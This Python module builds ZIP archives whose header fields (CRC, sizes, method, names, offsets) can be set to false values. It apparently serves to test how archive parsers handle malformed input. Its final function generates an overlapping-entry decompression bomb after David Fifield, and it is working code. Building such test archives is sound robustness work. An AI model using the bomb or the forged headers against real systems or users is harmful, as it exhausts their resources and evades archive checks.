"""Zip files field by field, so that each of them can lie."""
import struct
import zlib


def raw_deflate(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


class Entry:
    """One entry. What is given beside name and data overrides what would be right."""

    def __init__(self, name, data=b"", **lies):
        self.name = name if isinstance(name, bytes) else name.encode()
        self.data = data if isinstance(data, bytes) else data.encode()
        self.method = lies.pop("method", 8)
        self.packed = lies.pop("packed", None)
        if self.packed is None:
            self.packed = raw_deflate(self.data) if self.method == 8 else self.data
        self.flags = lies.pop("flags", 0 if self.name.isascii() else 0x800)
        self.mode = lies.pop("mode", 0)  # Unix mode; 0: made on MS-DOS
        self.lies = lies
        self.offset = None

    def field(self, name, right, where):
        """Lies are for both headers, or with "local_" or "central_" in front for one."""
        return self.lies.get(where + "_" + name, self.lies.get(name, right))

    def common(self, where):
        return struct.pack(
            "<HHHHHIII", 20, self.flags, self.field("method", self.method, where), 0, 0x21,
            self.field("crc", zlib.crc32(self.data), where),
            self.field("packed_size", len(self.packed), where),
            self.field("size", len(self.data), where))

    def local(self):
        name = self.lies.get("local_name", self.name)
        extra = self.lies.get("extra", b"")
        return (b"PK\3\4" + self.common("local") + struct.pack("<HH", len(name), len(extra)) +
                name + extra)

    def central(self):
        extra = self.lies.get("extra", b"")
        return (b"PK\1\2" + struct.pack("<H", 0x314 if self.mode else 20) + self.common("central") +
                struct.pack("<HHHHHII", len(self.name), len(extra), 0,
                            self.lies.get("disk", 0), 0, self.mode << 16, self.offset) +
                self.name + extra)


def end_record(entries, size, begin, count=None, comment=b"", disk=0):
    count = entries if count is None else count
    return struct.pack("<4sHHHHIIH", b"PK\5\6", disk, disk, count & 0xFFFF, count & 0xFFFF, size,
                       begin, len(comment)) + comment


def zip_of(entries, **end):
    """The bytes of a zip; `end` is handed to end_record."""
    body = b""
    for entry in entries:
        if entry.offset is None:  # else it shares the bytes of another one
            entry.offset = len(body)
            body += entry.local() + entry.packed
    directory = b"".join(entry.central() for entry in entries)
    return body + directory + end_record(len(entries), len(directory), len(body), **end)


def quoted_overlap(count, data):
    """A bomb after David Fifield: each entry unpacks to the headers and data of all that follow."""
    tail, content = raw_deflate(data), data
    entries, pieces = [], []
    for i in reversed(range(count)):
        name = b"zeros%03d.xml" % i
        entry = Entry(name, content, packed=tail)
        entry.data, entry.size = content, len(content)
        header = entry.local()
        pieces.insert(0, header)
        entries.insert(0, entry)
        quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
        tail = quote + header + tail
        content = header + content
        entry.crc = zlib.crc32(entry.data)
        entry.lies = {"crc": entry.crc, "size": entry.size, "packed_size": len(entry.packed)}
        entry.data = b""
    body = b""
    for i, entry in enumerate(entries):
        entry.offset = len(body)
        body += pieces[i]
        if i + 1 < len(entries):
            header = pieces[i + 1]
            body += struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
    body += entries[-1].packed
    directory = b"".join(entry.central() for entry in entries)
    return body + directory + end_record(len(entries), len(directory), len(body))
